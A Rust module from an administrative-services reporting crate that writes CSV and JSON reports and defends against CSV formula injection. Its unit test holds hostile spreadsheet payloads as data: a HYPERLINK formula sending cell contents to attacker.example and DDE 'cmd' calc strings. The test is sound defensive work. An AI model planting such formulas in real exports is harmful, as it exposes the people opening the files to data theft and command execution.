//! Reports as files: CSV (one row per scope) and JSON.
//!
//! Every text cell of a CSV this crate writes goes through [`safe_cell`]: a
//! cell a spreadsheet would run as a formula (it starts with `=`, `+`, `-`, `@`,
//! a tab, a carriage return or NUL) is written with a leading `'`, so an agency
//! named `=HYPERLINK(...)` shows as text instead of a live link. Numbers, even
//! negative ones, are written as they are.
//!
//! ```
//! use cchc::io::report::{ReportRow, write_csv};
//! use cchc::{ClockRule, OneStopReport, Period};
//! let mut r = OneStopReport::empty(Period::year(2023)?, ClockRule::Restart);
//! r.received_online = 3;
//! r.resolved_early = 1;
//! let mut out = Vec::new();
//! write_csv(&mut out, &[ReportRow { scope: "Tỉnh".into(), report: r }])?;
//! let text = String::from_utf8(out)?;
//! assert!(text.starts_with("scope,from,to,rule,received_online,"));
//! assert!(text.contains("\nTỉnh,2023-01-01,2023-12-31,restart,3,"));
//! # Ok::<(), Box<dyn std::error::Error>>(())
//! ```

use std::io::Write;

use serde::Serialize;

use crate::metrics::report::{OneStopReport, Ratio};
use crate::model::dossier::ClockRule;
use crate::{Error, Result};

/// A report with the label of its scope.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct ReportRow {
    /// The scope's label (an agency name, a level, "toàn tỉnh").
    pub scope: String,
    /// The report.
    pub report: OneStopReport,
}

type Column = (&'static str, fn(&OneStopReport) -> u64);

const COUNTS: [Column; 30] = [
    ("received_online", |r| r.received_online),
    ("received_direct", |r| r.received_direct),
    ("received_postal", |r| r.received_postal),
    ("carried_over", |r| r.carried_over),
    ("received_total", OneStopReport::received_total),
    ("resolved_early", |r| r.resolved_early),
    ("resolved_on_time", |r| r.resolved_on_time),
    ("resolved_late", |r| r.resolved_late),
    ("resolved_total", OneStopReport::resolved_total),
    ("in_progress_not_due", |r| r.in_progress_not_due),
    ("in_progress_overdue", |r| r.in_progress_overdue),
    ("in_progress_total", OneStopReport::in_progress_total),
    ("waiting_supplement", |r| r.waiting_supplement),
    ("refused", |r| r.refused),
    ("withdrawn", |r| r.withdrawn),
    ("closed_unsupplemented", |r| r.closed_unsupplemented),
    ("closed_early", |r| r.closed_early),
    ("stopped", |r| r.stopped),
    ("returned", |r| r.returned),
    ("digitised", |r| r.digitised),
    ("reused_data", |r| r.reused_data),
    ("fee_bearing", |r| r.fee_bearing),
    ("paid_online", |r| r.paid_online),
    ("e_results", |r| r.e_results),
    ("resolved_paper_result", |r| r.resolved_paper_result),
    ("e_results_paper_result", |r| r.e_results_paper_result),
    ("transferred", |r| r.transferred),
    ("supplement_requests", |r| r.supplement_requests),
    ("extended", |r| r.extended),
    ("late_apologies", |r| r.late_apologies),
];

type RateColumn = (&'static str, fn(&OneStopReport) -> Option<Ratio>);

const RATES: [RateColumn; 7] = [
    ("on_time_rate", OneStopReport::on_time_rate),
    ("on_time_rate_with_overdue", OneStopReport::on_time_rate_with_overdue),
    ("late_rate", OneStopReport::late_rate),
    ("online_rate", OneStopReport::online_rate),
    ("digitised_rate", OneStopReport::digitised_rate),
    ("e_result_rate", OneStopReport::e_result_rate),
    ("online_payment_rate", OneStopReport::online_payment_rate),
];

/// The characters that make a spreadsheet read a cell as a formula when they
/// come first. OWASP's CSV-injection rule lists `=`, `+`, `-`, `@`, tab and
/// carriage return; OWASP ASVS 5.0 requirement 1.2.10 adds NUL
/// (<https://asvs.emil.hemdal.se/1.2.10>, a stored copy of the ASVS text; the
/// OWASP CSV-injection page itself was not found in a stored copy).
const FORMULA_STARTS: [char; 7] = ['=', '+', '-', '@', '\t', '\r', '\0'];

/// Returns `cell` made safe to open in a spreadsheet: with a leading `'` when it
/// starts with a character that would make it a formula (see the module
/// documentation), unless it is a plain number such as `-5`, `+3` or `-1,5`,
/// which a spreadsheet reads as a number, not a formula.
///
/// ```
/// use cchc::io::report::safe_cell;
/// assert_eq!(safe_cell("=HYPERLINK(\"http://x.example\")"), "'=HYPERLINK(\"http://x.example\")");
/// assert_eq!(safe_cell("@SUM(A1)"), "'@SUM(A1)");
/// assert_eq!(safe_cell("-5"), "-5");
/// assert_eq!(safe_cell("-1,5"), "-1,5");
/// assert_eq!(safe_cell("UBND tỉnh Quảng Nam"), "UBND tỉnh Quảng Nam");
/// ```
pub fn safe_cell(cell: &str) -> std::borrow::Cow<'_, str> {
    match cell.chars().next() {
        Some(first) if FORMULA_STARTS.contains(&first) && !is_plain_number(cell) => {
            std::borrow::Cow::Owned(format!("'{cell}"))
        }
        _ => std::borrow::Cow::Borrowed(cell),
    }
}

/// A sign, digits, and at most one decimal mark (`.` or `,`) followed by digits.
fn is_plain_number(cell: &str) -> bool {
    let unsigned = cell.strip_prefix(['-', '+']).unwrap_or(cell);
    let (whole, fraction) = match unsigned.split_once(['.', ',']) {
        Some((whole, fraction)) => (whole, Some(fraction)),
        None => (unsigned, None),
    };
    let digits = |s: &str| !s.is_empty() && s.bytes().all(|b| b.is_ascii_digit());
    digits(whole) && fraction.is_none_or(digits)
}

fn csv_error(e: ::csv::Error) -> Error {
    match e.into_kind() {
        ::csv::ErrorKind::Io(io) => Error::Io(io),
        other => Error::Io(std::io::Error::other(format!("{other:?}"))),
    }
}

/// Writes reports as CSV: `scope, from, to, rule`, every count, then the rates in
/// percent with four decimals (`.` as the decimal mark; empty when undefined).
/// Every cell goes through [`safe_cell`], so a scope label cannot become a
/// spreadsheet formula.
///
/// # Errors
/// [`Error::Io`] when writing fails.
pub fn write_csv(w: impl Write, rows: &[ReportRow]) -> Result<()> {
    let mut out = ::csv::Writer::from_writer(w);
    let mut header = vec!["scope", "from", "to", "rule"];
    header.extend(COUNTS.iter().map(|c| c.0));
    header.extend(RATES.iter().map(|c| c.0));
    out.write_record(&header).map_err(csv_error)?;
    for row in rows {
        let r = &row.report;
        let mut record = vec![
            row.scope.clone(),
            r.period.from().to_string(),
            r.period.to().to_string(),
            match r.rule {
                ClockRule::Restart => "restart",
                ClockRule::Subtract => "subtract",
            }
            .to_owned(),
        ];
        record.extend(COUNTS.iter().map(|c| c.1(r).to_string()));
        record.extend(
            RATES.iter().map(|c| c.1(r).map(|x| format!("{:.4}", x.percent())).unwrap_or_default()),
        );
        out.write_record(record.iter().map(|cell| safe_cell(cell).into_owned()))
            .map_err(csv_error)?;
    }
    out.flush()?;
    Ok(())
}

/// Writes reports as a pretty-printed JSON array of `{scope, report}` objects.
///
/// # Errors
/// [`Error::Io`] when writing fails.
pub fn write_json(mut w: impl Write, rows: &[ReportRow]) -> Result<()> {
    serde_json::to_writer_pretty(&mut w, rows).map_err(std::io::Error::other)?;
    w.write_all(b"\n")?;
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::model::scope::Period;

    fn csv_of(scope: &str) -> Vec<Vec<String>> {
        let mut report = OneStopReport::empty(Period::year(2024).unwrap(), ClockRule::Restart);
        report.received_online = 5;
        let mut out = Vec::new();
        write_csv(&mut out, &[ReportRow { scope: scope.to_owned(), report }]).unwrap();
        ::csv::Reader::from_reader(out.as_slice())
            .records()
            .map(|r| r.unwrap().iter().map(str::to_owned).collect())
            .collect()
    }

    /// Issue 13 item 6: the agency name found by the probe, and every other
    /// formula start, comes out as text.
    #[test]
    fn a_formula_in_a_scope_label_is_written_as_text() {
        let attack = r#"=HYPERLINK("http://attacker.example/?x="&A2,"x")"#;
        let rows = csv_of(attack);
        assert_eq!(rows[0][0], format!("'{attack}"));
        for start in ["+", "-", "@", "\t", "\r", "\0"] {
            let label = format!("{start}cmd|' /C calc'!A0");
            assert_eq!(csv_of(&label)[0][0], format!("'{label}"), "{start:?}");
        }
        // The rest of the row is untouched: dates, rule and counts.
        assert_eq!(&rows[0][1..5], ["2024-01-01", "2024-12-31", "restart", "5"]);
    }

    #[test]
    fn numbers_and_ordinary_labels_are_left_alone() {
        for cell in ["-5", "+3", "-1,5", "-0.25", "12", "UBND tỉnh Quảng Nam", "", "'=x"] {
            assert_eq!(safe_cell(cell), cell, "{cell:?}");
        }
        for cell in ["-", "-1,5,3", "-1.", "--5", "-5e3", "- 5", "=1+1"] {
            assert_eq!(safe_cell(cell), format!("'{cell}"), "{cell:?}");
        }
    }
}
